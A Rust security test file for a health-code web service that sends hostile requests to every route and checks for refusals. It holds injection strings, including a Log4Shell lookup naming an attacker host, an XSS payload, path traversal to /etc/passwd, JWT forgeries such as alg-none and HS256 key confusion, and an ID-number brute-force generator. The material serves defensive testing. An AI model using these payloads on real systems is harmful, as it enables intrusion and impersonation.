//! Hostile input against every route: malformed, oversized, mistyped,
//! deeply nested and non-UTF-8 bodies; huge and injection strings in every
//! text field; forged, stripped, re-keyed and expired tokens; other people's
//! subjects; citizens on the authority's routes. Every answer must be a 4xx
//! problem with a documented code, and nothing may be stored.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD as B64;
use integration_tests::*;
use lambda_http::{Body, Request, Response};
use serde_json::{Value, json};
use shared::clock::Clock;
use shared::store::Store;

struct World {
    store: Store,
    login: login::App,
    declaration: declaration::App,
    code: code::App,
    venue: venue::App,
    scan: scan::App,
    admin: admin::App,
}

impl World {
    async fn call(&self, function: &str, req: Request) -> Response<Body> {
        match function {
            "login" => login::handle(&self.login, req).await,
            "declaration" => declaration::handle(&self.declaration, req).await,
            "code" => code::handle(&self.code, req).await,
            "venue" => venue::handle(&self.venue, req).await,
            "scan" => scan::handle(&self.scan, req).await,
            "admin" => admin::handle(&self.admin, req).await,
            other => panic!("no function {other}"),
        }
    }
}

/// Codes the OpenAPI document lists; any answer must carry one of them.
const DOCUMENTED: [&str; 26] = [
    "bad-request",
    "unauthenticated",
    "forbidden",
    "identity-required",
    "not-found",
    "method-not-allowed",
    "payload-too-large",
    "unsupported-media-type",
    "invalid-id-number",
    "invalid-name",
    "invalid-phone",
    "identity-mismatch",
    "id-number-taken",
    "already-verified",
    "too-many-dependents",
    "guardian-consent-required",
    "too-many-attempts",
    "invalid-declaration",
    "declaration-limit",
    "declaration-required",
    "invalid-venue",
    "venue-exists",
    "invalid-code",
    "expired-code",
    "invalid-venue-code",
    "venue-revoked",
];

struct Route {
    function: &'static str,
    method: &'static str,
    path: String,
    body: Option<Value>,
    /// Whether the route takes a session token.
    authenticated: bool,
}

fn route(function: &'static str, method: &'static str, path: impl Into<String>, body: Option<Value>) -> Route {
    let path = path.into();
    let authenticated = !(path == "/v1/login" || path == "/.well-known/jwks.json");
    Route {
        function,
        method,
        path,
        body,
        authenticated,
    }
}

/// Every string in a JSON document, as (pointer, value) pairs.
fn strings(value: &Value, pointer: String, out: &mut Vec<String>) {
    match value {
        Value::String(_) => out.push(pointer),
        Value::Array(items) => items
            .iter()
            .enumerate()
            .for_each(|(i, v)| strings(v, format!("{pointer}/{i}"), out)),
        Value::Object(map) => map.iter().for_each(|(k, v)| strings(v, format!("{pointer}/{k}"), out)),
        _ => {}
    }
}

async fn snapshot(store: &Store) -> Vec<String> {
    let mut items = Vec::new();
    for table in [
        &store.tables.accounts,
        &store.tables.subjects,
        &store.tables.venues,
        &store.tables.log,
        &store.tables.stats,
        &store.tables.audit,
        &store.tables.settings,
        &store.tables.appeals,
        &store.tables.exposures,
    ] {
        items.extend(
            table_items(store, table)
                .await
                .iter()
                .map(|item| format!("{table} {item}")),
        );
    }
    items.sort();
    items
}

/// Checks one answer: a 4xx problem+json with a documented code.
fn check(what: &str, response: Response<Body>, expected: &[u16]) {
    let status = response.status().as_u16();
    let content_type = response
        .headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let (_, body) = parts(response);
    assert!(
        expected.contains(&status),
        "{what}: status {status}, expected one of {expected:?}: {body}"
    );
    assert_eq!(content_type, "application/problem+json", "{what}");
    let code = body["code"].as_str().unwrap_or("");
    assert!(DOCUMENTED.contains(&code), "{what}: undocumented code {code:?}");
    assert_eq!(body["status"].as_u64(), Some(u64::from(status)), "{what}");
}

fn with_auth(mut req: Request, token: Option<&str>) -> Request {
    if let Some(token) = token {
        req.headers_mut()
            .insert("authorization", format!("Bearer {token}").parse().unwrap());
    }
    req
}

fn forged_tokens(valid: &str) -> Vec<(&'static str, String)> {
    let parts: Vec<&str> = valid.split('.').collect();
    let header: Value = serde_json::from_slice(&B64.decode(parts[0]).unwrap()).unwrap();
    let claims: Value = serde_json::from_slice(&B64.decode(parts[1]).unwrap()).unwrap();
    let enc = |v: &Value| B64.encode(v.to_string());
    let none = json!({"alg": "none", "typ": "JWT"});
    let mut with_kid = header.clone();
    with_kid["kid"] = json!("another-key");
    let mut changed = claims.clone();
    changed["sub"] = json!("u_someone_else");
    let mut expired = claims.clone();
    expired["exp"] = json!(NOW.unix_timestamp() - 1);
    // HS256 keyed with our public signing key: the algorithm-confusion attack.
    let public = code_keys().jwks()["keys"][0]["x"].as_str().unwrap().to_owned();
    let confused = jsonwebtoken::encode(
        &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
        &claims,
        &jsonwebtoken::EncodingKey::from_secret(public.as_bytes()),
    )
    .unwrap();
    vec![
        ("alg none", format!("{}.{}.", enc(&none), parts[1])),
        ("HS256 with the public key", confused),
        ("stripped signature", format!("{}.{}.", parts[0], parts[1])),
        ("changed kid", format!("{}.{}.{}", enc(&with_kid), parts[1], parts[2])),
        (
            "claims changed after signing",
            format!("{}.{}.{}", parts[0], enc(&changed), parts[2]),
        ),
        (
            "expired session",
            format!("{}.{}.{}", parts[0], enc(&expired), parts[2]),
        ),
    ]
}

const INJECTIONS: [&str; 6] = [
    "' OR '1'='1' --",
    "pk = :pk OR attribute_exists(pk)",
    "\"; DROP TABLE hc-accounts; --",
    "${jndi:ldap://attacker/x}",
    "<script>alert(document.cookie)</script>",
    "S#s_aaaaaaaaaaaaaaaaaaaaaaaaaa",
];

#[tokio::test]
async fn hostile_requests_get_documented_4xx_problems_and_store_nothing() {
    let store = store().await;
    let clock = Clock::fixed(NOW);
    let w = World {
        login: long_login_app(&store, &clock),
        declaration: declaration_app(&store, &clock),
        code: code_app(&store, &clock),
        venue: venue_app(&store, &clock),
        scan: scan_app(&store, &clock),
        admin: admin_app(&store, &clock),
        store,
    };
    // The cast: Alice with a dependent and a venue, Bob a stranger, an officer.
    let alice = verified(&w.login, "alice", 1).await;
    let (_, added) = parts(
        w.call(
            "login",
            request(
                "POST",
                "/v1/dependents",
                Some(json!({"name": "张小宝", "id_number": person_id(50), "relation": "child"})),
                Some(&alice),
            ),
        )
        .await,
    );
    let child = added["dependent"]["subject_id"].as_str().unwrap().to_owned();
    // Carol, Alice's guardian by her invitation.
    let alice_subject = sessions().verify(&alice, NOW).unwrap().subject_id.unwrap();
    let (_, invited) = parts(
        w.call(
            "login",
            request(
                "POST",
                &format!("/v1/dependents/{alice_subject}/invitations"),
                None,
                Some(&alice),
            ),
        )
        .await,
    );
    let carol = verified(&w.login, "carol", 4).await;
    let carol_adds = json!({"name": "张三丰", "id_number": person_id(1), "relation": "parent", "invitation": invited["invitation"]["code"]});
    let (status, _) = parts(
        w.call(
            "login",
            request("POST", "/v1/dependents", Some(carol_adds), Some(&carol)),
        )
        .await,
    );
    assert_eq!(status, 201);
    let (_, guardians) = parts(
        w.call("login", request("GET", "/v1/guardians", None, Some(&alice)))
            .await,
    );
    let carol_link = guardians["guardians"][0]["id"].as_str().unwrap().to_owned();
    assert_eq!(
        parts(
            w.call(
                "declaration",
                request("POST", "/v1/declarations", Some(normal_declaration()), Some(&alice))
            )
            .await
        )
        .0,
        201
    );
    let (_, venue) = parts(
        w.call("venue", request("POST", "/v1/venues", Some(venue_body()), Some(&alice)))
            .await,
    );
    let bob = verified(&w.login, "bob", 2).await;
    // Bob is an inspector and holds a venue, so that hostile ID numbers reach their checks.
    let bob_account = sessions().verify(&bob, NOW).unwrap().account_id;
    assert!(
        w.store
            .set_role(&bob_account, shared::domain::role::Role::Inspector, Some(NOW))
            .await
            .unwrap()
    );
    let mut bob_venue = venue_body();
    bob_venue["name"] = json!("李四便利店");
    let (status, _) = parts(
        w.call("venue", request("POST", "/v1/venues", Some(bob_venue), Some(&bob)))
            .await,
    );
    assert_eq!(status, 201);
    let officer = officer(&w.login, "officer", 3).await;
    let (_, code) = parts(w.call("code", request("GET", "/v1/code", None, Some(&alice))).await);

    let routes = vec![
        route("login", "POST", "/v1/login", Some(json!({"code": "dev:mallory"}))),
        route(
            "login",
            "POST",
            "/v1/identity",
            Some(json!({"name": "李四", "id_number": person_id(9), "phone": "13900000000"})),
        ),
        route("login", "GET", "/v1/me", None),
        route(
            "login",
            "POST",
            "/v1/dependents",
            Some(
                json!({"name": "李小四", "id_number": person_id(51), "relation": "child", "invitation": "i_aaaaaaaaaaaaaaaaaaaaaaaaaa"}),
            ),
        ),
        route("login", "GET", "/v1/dependents", None),
        route("login", "DELETE", format!("/v1/dependents/{child}"), None),
        route("login", "POST", format!("/v1/dependents/{child}/invitations"), None),
        route("login", "GET", "/v1/guardians", None),
        route("login", "DELETE", format!("/v1/guardians/{carol_link}"), None),
        route(
            "declaration",
            "POST",
            "/v1/declarations",
            Some(
                json!({"subject_id": alice_subject, "region": "130102", "temperature": 36.5, "symptoms": ["cough"], "close_contact": false, "visited_regions": ["110105"], "from_abroad": false}),
            ),
        ),
        route(
            "declaration",
            "GET",
            format!("/v1/declarations?subject_id={alice_subject}"),
            None,
        ),
        route("code", "GET", format!("/v1/code?subject_id={alice_subject}"), None),
        route(
            "code",
            "POST",
            "/v1/code/paper",
            Some(json!({"subject_id": alice_subject})),
        ),
        route(
            "code",
            "GET",
            format!("/v1/code/paper?subject_id={alice_subject}&format=png"),
            None,
        ),
        route(
            "venue",
            "POST",
            "/v1/venues",
            Some(
                json!({"name": "李四小卖部", "address": "长安区中山路1号", "region": "130102", "category": "commerce"}),
            ),
        ),
        route("venue", "GET", "/v1/venues/mine", None),
        route("venue", "GET", "/v1/venues/mine/poster", None),
        route("venue", "GET", "/v1/venues/mine/checkins", None),
        route("venue", "DELETE", "/v1/venues/mine", None),
        route(
            "scan",
            "POST",
            "/v1/scans",
            Some(json!({"code": code["qr"], "region": "130102"})),
        ),
        route(
            "scan",
            "POST",
            "/v1/scans",
            Some(json!({"id_number": person_id(1), "region": "130102"})),
        ),
        route(
            "venue",
            "POST",
            "/v1/venues/mine/checkins",
            Some(json!({"id_number": person_id(61)})),
        ),
        route(
            "scan",
            "POST",
            "/v1/checkins",
            Some(json!({"venue_code": venue["qr"], "subject_id": alice_subject})),
        ),
        route(
            "admin",
            "PUT",
            "/v1/admin/risk-areas",
            Some(json!({"areas": [{"region": "130100", "level": "high"}]})),
        ),
        route("admin", "GET", "/v1/admin/risk-areas", None),
        route(
            "admin",
            "POST",
            "/v1/admin/risk-persons",
            Some(json!({"records": [{"id_number": person_id(2), "status": "confirmed", "since": "2026-11-25"}]})),
        ),
        route(
            "admin",
            "POST",
            format!("/v1/admin/subjects/{alice_subject}/verification"),
            Some(json!({"color": "red", "reason": "核验", "valid_until": "2026-11-27T10:00:00+08:00"})),
        ),
        route(
            "admin",
            "GET",
            format!("/v1/admin/traces?venue_id={}", venue["venue"]["id"].as_str().unwrap()),
            None,
        ),
        route("admin", "GET", "/v1/admin/rankings?level=county", None),
        route(
            "admin",
            "GET",
            format!("/v1/admin/subjects?id_number={}", person_id(1)),
            None,
        ),
        route(
            "admin",
            "GET",
            format!("/v1/admin/traces?id_number={}", person_id(1)),
            None,
        ),
        route(
            "admin",
            "GET",
            "/v1/admin/venues?region=130102&q=%E5%B0%8F%E5%8D%96%E9%83%A8",
            None,
        ),
        route(
            "admin",
            "DELETE",
            format!("/v1/admin/venues/{}", venue["venue"]["id"].as_str().unwrap()),
            None,
        ),
        route(
            "declaration",
            "POST",
            "/v1/appeals",
            Some(json!({"subject_id": alice_subject, "reason": "体温登记时填错了，请核实。"})),
        ),
        route(
            "declaration",
            "GET",
            format!("/v1/appeals?subject_id={alice_subject}"),
            None,
        ),
        route("admin", "GET", "/v1/admin/appeals?status=open", None),
        route(
            "admin",
            "POST",
            "/v1/admin/appeals/ap_aaaaaaaaaaaaaaaaaaaaaaaaaa",
            Some(
                json!({"outcome": "upheld", "note": "经核实", "color": "green", "valid_until": "2026-11-27T10:00:00+08:00"}),
            ),
        ),
        // An unknown venue: every variant is refused (400, 404, 422), so nothing is recorded.
        route(
            "admin",
            "POST",
            "/v1/admin/exposures",
            Some(
                json!({"venue_id": "v_aaaaaaaaaaaaaaaaaaaaaaaaaa", "from": "2026-11-26T08:00:00+08:00", "to": "2026-11-26T09:00:00+08:00", "level": "yellow", "reason": "确诊病例到访"}),
            ),
        ),
        route("admin", "GET", "/v1/admin/exposures/x_aaaaaaaaaaaaaaaaaaaaaaaaaa", None),
        route(
            "admin",
            "DELETE",
            "/v1/admin/exposures/x_aaaaaaaaaaaaaaaaaaaaaaaaaa",
            None,
        ),
        route(
            "admin",
            "GET",
            "/v1/admin/exposures/x_aaaaaaaaaaaaaaaaaaaaaaaaaa/contacts",
            None,
        ),
        route("code", "GET", format!("/v1/notices?subject_id={alice_subject}"), None),
    ];

    let before = snapshot(&w.store).await;
    let mut answered = 0;
    for r in &routes {
        let token = if r.function == "admin" {
            Some(officer.as_str())
        } else {
            r.authenticated.then_some(bob.as_str())
        };
        let name = format!("{} {}", r.method, r.path);

        // Bob acting on Alice's subject or child; a citizen on the authority's routes.
        let foreign = r.function == "admin"
            || r.path.contains(&alice_subject)
            || r.path.contains(&child)
            || r.body.as_ref().is_some_and(|b| b.to_string().contains(&alice_subject));
        if foreign {
            let response = w
                .call(r.function, request(r.method, &r.path, r.body.clone(), Some(&bob)))
                .await;
            check(&format!("{name} by Bob"), response, &[403]);
            answered += 1;
        }

        // Forged and expired sessions.
        if r.authenticated {
            for (attack, forged) in forged_tokens(token.unwrap()) {
                let response = w
                    .call(r.function, request(r.method, &r.path, r.body.clone(), Some(&forged)))
                    .await;
                check(&format!("{name} with {attack}"), response, &[401]);
                answered += 1;
            }
        }

        let Some(body) = &r.body else { continue };
        let raw = |bytes: Vec<u8>, content_type: &str| {
            with_auth(
                raw_request(
                    r.method,
                    &r.path,
                    Body::Binary(bytes),
                    &[("content-type", content_type)],
                ),
                token,
            )
        };
        let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes();
        let mut oversized = body.clone();
        oversized["padding"] = json!("x".repeat(17 * 1024));
        for (attack, req, expected) in [
            (
                "malformed JSON",
                raw(b"{\"a\":".to_vec(), "application/json"),
                &[400u16][..],
            ),
            (
                "a body over 16 KiB",
                raw(oversized.to_string().into_bytes(), "application/json"),
                &[413],
            ),
            ("XML", raw(b"<a/>".to_vec(), "application/xml"), &[415]),
            ("deep nesting", raw(deep, "application/json"), &[400, 413]),
            (
                "non-UTF-8 bytes",
                raw(vec![b'{', 0xff, 0xfe, b'}'], "application/json"),
                &[400],
            ),
            ("an array", raw(b"[]".to_vec(), "application/json"), &[400, 422]),
        ] {
            check(
                &format!("{name} with {attack}"),
                w.call(r.function, req).await,
                expected,
            );
            answered += 1;
        }

        // Huge and injection strings in every text field.
        let mut fields = Vec::new();
        strings(body, String::new(), &mut fields);
        for field in fields {
            let huge = "龘".repeat(4_000);
            for value in INJECTIONS.iter().map(|s| s.to_string()).chain([huge]) {
                let mut hostile = body.clone();
                *hostile.pointer_mut(&field).unwrap() = Value::String(value.clone());
                let response = w
                    .call(r.function, request(r.method, &r.path, Some(hostile), token))
                    .await;
                check(
                    &format!("{name} with {field} = {:.20}", value),
                    response,
                    &[400, 401, 403, 404, 409, 413, 422],
                );
                answered += 1;
            }
        }
    }

    // Hostile queries.
    for (function, path) in [
        ("declaration", "/v1/declarations?subject_id=%27%20OR%201%3D1"),
        ("code", "/v1/code?subject_id=S%23s_aaaaaaaaaaaaaaaaaaaaaaaaaa"),
        ("venue", "/v1/venues/mine/checkins?from=%27%3B--"),
        ("venue", "/v1/venues/mine/checkins?next=JyBPUiAxPTE"),
        ("venue", "/v1/venues/mine/checkins?limit=-1"),
        ("venue", "/v1/venues/mine/poster?format=..%2F..%2Fetc%2Fpasswd"),
        ("admin", "/v1/admin/traces?venue_id=%27%20OR%201%3D1"),
        ("admin", "/v1/admin/traces?subject_id=pk%20%3D%20%3Apk"),
        ("admin", "/v1/admin/rankings?date=2026-13-45"),
        ("admin", "/v1/admin/rankings?level=%3Cscript%3E"),
        ("admin", "/v1/admin/subjects?id_number=%27%20OR%201%3D1"),
        ("admin", "/v1/admin/subjects?id_number=P%23aaaa"),
        ("admin", "/v1/admin/subjects"),
        ("admin", "/v1/admin/traces?id_number=S%23s_aaaaaaaaaaaaaaaaaaaaaaaaaa"),
        ("admin", "/v1/admin/venues?region=130102%20OR%201%3D1"),
        ("admin", "/v1/admin/venues?region=130102&q=%3Cscript%3E"),
        (
            "admin",
            "/v1/admin/venues?region=130102&q=%27)%20OR%20contains(pk%2C%27V",
        ),
        ("admin", "/v1/admin/venues?region=130102&next=JyBPUiAxPTE"),
        ("admin", "/v1/admin/venues?region=130102&limit=1e9"),
        ("admin", "/v1/admin/appeals?next=JyBPUiAxPTE"),
        ("admin", "/v1/admin/appeals?status=%27%20OR%201%3D1"),
        ("declaration", "/v1/appeals?subject_id=%27%20OR%201%3D1"),
        ("admin", "/v1/admin/exposures/%27%20OR%201%3D1"),
        ("admin", "/v1/admin/exposures/X%23x_aaaaaaaaaaaaaaaaaaaaaaaaaa"),
        (
            "admin",
            "/v1/admin/exposures/x_aaaaaaaaaaaaaaaaaaaaaaaaaa/contacts?next=C%23s_aaaaaaaaaaaaaaaaaaaaaaaaaa",
        ),
        ("code", "/v1/notices?subject_id=%27%20OR%201%3D1"),
        ("code", "/v1/code/paper?subject_id=%27%20OR%201%3D1"),
        ("code", "/v1/code/paper?format=..%2F..%2Fetc%2Fpasswd"),
        ("code", "/v1/code/paper?format=svg%00png"),
    ] {
        let token = if function == "admin" {
            &officer
        } else if function == "venue" {
            &alice
        } else {
            &bob
        };
        check(
            &format!("GET {path}"),
            w.call(function, request("GET", path, None, Some(token))).await,
            &[400, 403, 404, 422],
        );
        answered += 1;
    }
    // Huge queries, and revocations of what is not a venue id.
    for path in [
        format!("/v1/admin/subjects?id_number={}", "1".repeat(8_000)),
        format!("/v1/admin/venues?region=130102&q={}", "%E9%BE%98".repeat(4_000)),
    ] {
        check(
            "a huge query",
            w.call("admin", request("GET", &path, None, Some(&officer))).await,
            &[400, 422],
        );
        answered += 1;
    }
    for id in [
        "%27%20OR%201%3D1",
        "V%23v_aaaaaaaaaaaaaaaaaaaaaaaaaa",
        "O%23u_x",
        "..%2F..%2Fmine",
    ] {
        let path = format!("/v1/admin/venues/{id}");
        check(
            &format!("DELETE {path}"),
            w.call("admin", request("DELETE", &path, None, Some(&officer))).await,
            &[404],
        );
        answered += 1;
    }
    // Hostile codes at a checkpoint.
    let qr = code["qr"].as_str().unwrap();
    let jws = qr.trim_start_matches("HBHC:1:");
    for (attack, forged) in forged_tokens(jws) {
        let req = request(
            "POST",
            "/v1/scans",
            Some(json!({"code": format!("HBHC:1:{forged}")})),
            Some(&bob),
        );
        check(
            &format!("a scan of a code with {attack}"),
            w.call("scan", req).await,
            &[422],
        );
        answered += 1;
    }

    // ID numbers that are not: a citizen's scan by number, and an assisted entry.
    for bad in [
        "130102199001010000",
        "13010219900101001",
        "1301021990010100111",
        "13010219901301001X",
        "１３０１０２１９９００１０１００１１",
        "S#s_aaaaaaaaaaaaaaaaaaaaaaaaaa",
    ] {
        let scan = request("POST", "/v1/scans", Some(json!({"id_number": bad})), Some(&bob));
        check(
            &format!("an ID-card scan of {bad:.8}"),
            w.call("scan", scan).await,
            &[422],
        );
        let entry = request(
            "POST",
            "/v1/venues/mine/checkins",
            Some(json!({"id_number": bad})),
            Some(&bob),
        );
        check(
            &format!("an assisted entry of {bad:.8}"),
            w.call("venue", entry).await,
            &[422],
        );
        answered += 2;
    }
    let alice_scans_by_number = request(
        "POST",
        "/v1/scans",
        Some(json!({"id_number": person_id(2)})),
        Some(&alice),
    );
    check(
        "a citizen's scan by ID number",
        w.call("scan", alice_scans_by_number).await,
        &[403],
    );
    for both in [
        json!({"code": code["qr"], "id_number": person_id(1)}),
        json!({"region": "130102"}),
        json!({"id_number": 130102199001010011u64}),
    ] {
        let req = request("POST", "/v1/scans", Some(both), Some(&bob));
        check("a scan with both or neither", w.call("scan", req).await, &[400, 422]);
        answered += 1;
    }

    assert!(answered > 300, "{answered} hostile requests");
    assert_eq!(snapshot(&w.store).await, before, "hostile requests stored nothing");

    // A paper code whose version or lifetime is rewritten, its signature kept.
    let (status, printed) = parts(
        w.call("code", request("POST", "/v1/code/paper", Some(json!({})), Some(&alice)))
            .await,
    );
    assert_eq!(status, 201, "{printed}");
    let before = snapshot(&w.store).await;
    let jws = printed["qr"].as_str().unwrap().trim_start_matches("HBHC:1:").to_owned();
    let parts_of: Vec<&str> = jws.split('.').collect();
    let mut claims: Value = serde_json::from_slice(&B64.decode(parts_of[1]).unwrap()).unwrap();
    for (claim, value) in [("pv", json!(99)), ("exp", json!(4_000_000_000i64)), ("pv", Value::Null)] {
        let original = claims[claim].clone();
        if value.is_null() {
            claims.as_object_mut().unwrap().remove(claim);
        } else {
            claims[claim] = value;
        }
        let payload = B64.encode(claims.to_string());
        let forged = format!("HBHC:1:{}.{payload}.{}", parts_of[0], parts_of[2]);
        let req = request("POST", "/v1/scans", Some(json!({"code": forged})), Some(&bob));
        check(
            &format!("a paper code with `{claim}` rewritten"),
            w.call("scan", req).await,
            &[422],
        );
        claims[claim] = original;
    }
    assert_eq!(snapshot(&w.store).await, before, "forged paper codes stored nothing");
}

/// Valid ID numbers that show as `shown` does on a scan (its first 6 and
/// last 4 characters), as someone who saw the scan would try them: other
/// birth dates and first digits of the sequence, the right check character.
fn candidates(shown: &str, count: usize) -> Vec<String> {
    let mut found = Vec::new();
    let start = time::macros::date!(1940 - 01 - 01);
    for days in 0..40_000 {
        let birth = start + time::Duration::days(days);
        let birth = format!("{:04}{:02}{:02}", birth.year(), u8::from(birth.month()), birth.day());
        for first in 0..10 {
            let id = id_number(&format!("{}{birth}{first}{}", &shown[..6], &shown[15..17]));
            if id[14..] == shown[14..] && id != shown {
                found.push(id);
                if found.len() == count {
                    return found;
                }
            }
        }
    }
    found
}

/// The attacks of issue #12, each of which succeeded before guardians
/// needed consent and name/ID checks were limited.
#[tokio::test]
async fn a_stranger_cannot_take_a_guarded_person_probe_their_number_or_stay_once_removed() {
    let w = world().await;
    let grandma = person_id(60);
    let verifier = FakeVerifier::knowing(&[
        ("张三丰", person_id(1).as_str()),
        ("张三丰", person_id(2).as_str()),
        ("刘秀英", grandma.as_str()),
    ]);
    let login = login_app_verified_by(&w.store, &w.clock, &verifier);
    let call = |method: &'static str, path: String, body: Option<Value>, token: String| {
        let login = &login;
        async move { parts(login::handle(login, request(method, &path, body, Some(&token))).await) }
    };
    let son = verified(&login, "son", 1).await;
    let mallory = verified(&login, "mallory", 2).await;
    let (status, added) = call(
        "POST",
        "/v1/dependents".into(),
        Some(json!({"name": "刘秀英", "id_number": grandma, "relation": "parent"})),
        son.clone(),
    )
    .await;
    assert_eq!(status, 201, "{added}");
    let subject = added["dependent"]["subject_id"].as_str().unwrap().to_owned();

    // Knowing her name and number is not enough to become her guardian.
    let before = snapshot(&w.store).await;
    let (status, body) = call(
        "POST",
        "/v1/dependents".into(),
        Some(json!({"name": "刘秀英", "id_number": grandma, "relation": "parent"})),
        mallory.clone(),
    )
    .await;
    assert_eq!(
        (status, body["code"].as_str()),
        (403, Some("guardian-consent-required")),
        "{body}"
    );
    let mut close_contact = normal_declaration();
    close_contact["subject_id"] = json!(subject);
    close_contact["close_contact"] = json!(true);
    let (status, _) = parts(
        declaration::handle(
            &w.declaration,
            request("POST", "/v1/declarations", Some(close_contact), Some(&mallory)),
        )
        .await,
    );
    assert_eq!(status, 403, "nor to turn her code red");
    assert_eq!(snapshot(&w.store).await, before, "nothing stored");

    // Nor can her hidden digits be probed: 330 tries, the right one last.
    let mut tries = candidates(&grandma, 329);
    tries.push(grandma.clone());
    assert_eq!(tries.len(), 330);
    let asked = verifier.calls();
    let mut answers = std::collections::BTreeMap::new();
    for id in &tries {
        let (status, body) = call(
            "POST",
            "/v1/dependents".into(),
            Some(json!({"name": "刘秀英", "id_number": id, "relation": "parent"})),
            mallory.clone(),
        )
        .await;
        *answers
            .entry((status, body["code"].as_str().unwrap_or("").to_owned()))
            .or_insert(0) += 1;
    }
    assert_eq!(verifier.calls() - asked, 5, "five checks made: {answers:?}");
    assert_eq!(answers.get(&(422, "identity-mismatch".to_owned())), Some(&5));
    assert_eq!(
        answers.get(&(429, "too-many-attempts".to_owned())),
        Some(&325),
        "{answers:?}"
    );

    // A guardian the owner removed reads nothing more.
    let granny = login_and_claim(&login, &grandma).await;
    let (_, guardians) = call("GET", "/v1/guardians".into(), None, granny.clone()).await;
    let son_link = guardians["guardians"][0]["id"].as_str().unwrap().to_owned();
    let (status, _) = call("DELETE", format!("/v1/guardians/{son_link}"), None, mallory.clone()).await;
    assert_eq!(status, 404, "only the owner removes her guardians");
    let (status, _) = call("DELETE", format!("/v1/guardians/{son_link}"), None, granny.clone()).await;
    assert_eq!(status, 204);
    let listing = format!("/v1/declarations?subject_id={subject}");
    check(
        "a removed guardian's listing",
        declaration::handle(&w.declaration, request("GET", &listing, None, Some(&son))).await,
        &[403],
    );
}

/// The person claims her own code: she logs in and authenticates.
async fn login_and_claim(app: &login::App, id: &str) -> String {
    let token = login(app, "granny").await;
    let body = json!({"name": "刘秀英", "id_number": id, "phone": "13812345678"});
    let (status, body) = parts(login::handle(app, request("POST", "/v1/identity", Some(body), Some(&token))).await);
    assert_eq!(status, 200, "{body}");
    body["token"].as_str().unwrap().to_owned()
}

/// The cases of the abuse found by trying the scan log and sessions as an
/// attacker would. Before the change: five scans in a second logged five
/// entries (a loop inflated a county's ranking and buried a person's trace),
/// a caller could scan without limit, and a lost phone's token worked for its
/// whole lifetime.
#[tokio::test]
async fn a_scan_loop_and_a_lost_phones_token_are_stopped() {
    let w = world().await;
    let victim = declared(&w, "victim", 1).await;
    let (_, shown) = parts(code::handle(&w.code, request("GET", "/v1/code", None, Some(&victim))).await);
    let attacker = verified(&w.login, "attacker", 2).await;
    let scan = || {
        scan::handle(
            &w.scan,
            request("POST", "/v1/scans", Some(json!({"code": shown["qr"]})), Some(&attacker)),
        )
    };
    let mut statuses = Vec::new();
    for _ in 0..130 {
        statuses.push(parts(scan().await).0);
    }
    assert!(statuses[..120].iter().all(|s| *s == 200));
    assert!(
        statuses[120..].iter().all(|s| *s == 429),
        "the loop is refused past 120 a minute"
    );
    let log = table_items(&w.store, &w.store.tables.log).await;
    assert_eq!(
        log.len(),
        1,
        "a minute of scans of one person by one scanner is one entry"
    );

    // The phone is lost: its owner logs out elsewhere with the same token's
    // account, and the token found on the phone is refused.
    let found_on_the_phone = victim.clone();
    let (status, _) = parts(login::handle(&w.login, request("POST", "/v1/logout", None, Some(&victim))).await);
    assert_eq!(status, 204);
    for response in [
        code::handle(&w.code, request("GET", "/v1/code", None, Some(&found_on_the_phone))).await,
        declaration::handle(
            &w.declaration,
            request("GET", "/v1/declarations", None, Some(&found_on_the_phone)),
        )
        .await,
        login::handle(&w.login, request("GET", "/v1/me", None, Some(&found_on_the_phone))).await,
    ] {
        assert_eq!(parts(response).0, 401);
    }
}

/// The routes of the national interoperability: `POST /v1/verify` with
/// forged, revoked and malformed API keys and hostile bodies, and hostile
/// codes under a trusted issuer's prefix at `POST /v1/scans`. A bad key is
/// 401, a bad body a documented 4xx, a bad code `valid: false` (verify) or
/// 422 (scans); nothing is stored.
#[tokio::test]
async fn hostile_partner_calls_and_foreign_codes_are_refused_and_store_nothing() {
    use integration_tests::partner::{self, Province};
    let mut w = world().await;
    // Enough for the few hundred calls below in one frozen second.
    w.code.partner_limiter = shared::service::limits::RateLimiter::per_second(100_000, 10);
    let bj = Province::default();
    bj.trust(&w.store).await;
    let key = partner::add_partner(&w.store, "beijing").await;
    let revoked = partner::add_partner(&w.store, "tianjin").await;
    partner::revoke_partner(&w.store, "tianjin").await;
    let alice = declared(&w, "alice", 1).await;
    let guard = verified(&w.login, "guard", 2).await;
    let (_, shown) = parts(code::handle(&w.code, request("GET", "/v1/code", None, Some(&alice))).await);
    let qr = shown["qr"].as_str().unwrap().to_owned();
    let before = snapshot(&w.store).await;
    let verify = |key: Option<&str>, body: Body, content_type: &str| {
        let mut headers = vec![("content-type", content_type)];
        if let Some(key) = key {
            headers.push(("x-api-key", key));
        }
        raw_request("POST", "/v1/verify", body, &headers)
    };
    let body = |code: &str| Body::Text(json!({ "code": code }).to_string());

    let key_hash = shared::service::partners::key_hash(&key);
    let huge_key = format!("hcpk_{}", "a".repeat(8_000));
    let upper = key.to_uppercase();
    let prefixed = format!("{key}{key}");
    for (attack, bad_key) in [
        ("no key", None),
        ("an empty key", Some("")),
        ("a revoked key", Some(revoked.as_str())),
        ("the stored hash of the key", Some(key_hash.as_str())),
        ("the key in upper case", Some(upper.as_str())),
        ("the key twice", Some(prefixed.as_str())),
        ("a huge key", Some(huge_key.as_str())),
        ("an injection", Some("' OR '1'='1' --")),
        ("a session token", Some(alice.as_str())),
    ] {
        let response = code::handle(&w.code, verify(bad_key, body(&qr), "application/json")).await;
        check(&format!("verify with {attack}"), response, &[401]);
    }
    let mut bearer = request("POST", "/v1/verify", Some(json!({ "code": qr })), Some(&alice));
    bearer.headers_mut().remove("x-api-key");
    check(
        "verify with a session instead of a key",
        code::handle(&w.code, bearer).await,
        &[401],
    );

    let deep = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)).into_bytes();
    let oversized = json!({"code": qr, "padding": "x".repeat(17 * 1024)}).to_string();
    for (attack, bad_body, content_type, expected) in [
        (
            "malformed JSON",
            Body::Text("{\"code\":".into()),
            "application/json",
            &[400u16][..],
        ),
        ("a body over 16 KiB", Body::Text(oversized), "application/json", &[413]),
        ("XML", Body::Text("<a/>".into()), "application/xml", &[415]),
        ("deep nesting", Body::Binary(deep), "application/json", &[400, 413]),
        (
            "non-UTF-8 bytes",
            Body::Binary(vec![b'{', 0xff, 0xfe, b'}']),
            "application/json",
            &[400],
        ),
